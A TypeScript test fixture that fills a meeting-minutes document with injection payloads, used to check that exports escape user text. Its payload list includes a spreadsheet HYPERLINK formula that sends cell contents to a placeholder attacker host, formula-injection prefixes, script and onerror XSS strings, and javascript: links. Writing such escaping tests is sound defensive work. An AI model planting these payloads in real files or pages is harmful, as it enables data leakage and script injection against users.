/**
 * A workshop for the minutes' tests only (never imported by app code) whose every user string is an
 * injection payload: formulas, HTML, Markdown structure, autolinks and code fences.
 */
import type * as Y from 'yjs';
import { addItem, setItemTheme } from '../doc/itemOps.js';
import { setMinutesInfo } from '../doc/minutesInfoOps.js';
import { appendNotes } from '../doc/notesOps.js';
import { addOutcome } from '../doc/outcomeOps.js';
import { addTheme } from '../doc/themeOps.js';
import type { Locale } from '../locale.js';
import { FIXTURE_STAGES, minutesFixture } from './minutesFixture.js';
import type { MinutesContext } from './model.js';

const CREATED_AT = Date.UTC(2026, 10, 18, 9, 0);

/** Strings that would be live code, markup or formulas if an export passed them through. */
export const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+2',
  '-2',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '# heading',
  '| pipe | cell |',
  '```\ncode\n```',
  '**bold** _em_ &amp; &lt;b&gt; www.evil.example https://evil.example',
  '1. list\n- item\n===',
] as const;

/** A workshop whose every user string (title, place, items, notes, outcomes, names) is a payload. */
export function hostileFixture(locale: Locale): { doc: Y.Doc; ctx: MinutesContext } {
  const { doc, ctx } = minutesFixture(locale);
  const p = (i: number): string => PAYLOADS[i % PAYLOADS.length] as string;
  setMinutesInfo(doc, { title: p(6), place: p(0), organizers: `${p(3)}\n${p(9)}` });
  for (const [i, payload] of PAYLOADS.entries())
    addItem(doc, {
      id: `it_bad${i}`,
      stageId: FIXTURE_STAGES.brainstorm,
      title: payload,
      description: p(i + 1),
      sdgs: [5],
      authorGroup: 'other',
      createdAt: CREATED_AT + 500 + i,
    });
  addTheme(doc, { id: 'th_bad', stageId: FIXTURE_STAGES.brainstorm, name: p(7) });
  setItemTheme(doc, 'it_bad0', 'th_bad');
  appendNotes(
    doc,
    FIXTURE_STAGES.review,
    PAYLOADS.map((payload) => ({
      type: 'paragraph',
      inlines: [{ text: payload }, { text: payload, bold: true }],
    })),
  );
  appendNotes(doc, FIXTURE_STAGES.review, [
    { type: 'paragraph', inlines: [{ text: 'bad link', link: 'javascript:alert(1)' }] },
    { type: 'code', text: '```\n<script>x</script>\n````' },
  ]);
  for (const [i, payload] of PAYLOADS.entries())
    addOutcome(doc, {
      id: `oc_bad${i}`,
      kind: i % 2 === 0 ? 'action' : 'decision',
      text: payload,
      owner: p(i + 2),
      organization: p(i + 3),
      stageId: FIXTURE_STAGES.decisions,
      createdAt: CREATED_AT + 2000 + i,
    });
  const participants = PAYLOADS.map((payload, i) => ({
    name: payload,
    organization: p(i + 1),
    group: 'other' as const,
    nameInMinutes: true,
  }));
  return { doc, ctx: { ...ctx, participants: [...ctx.participants, ...participants] } };
}
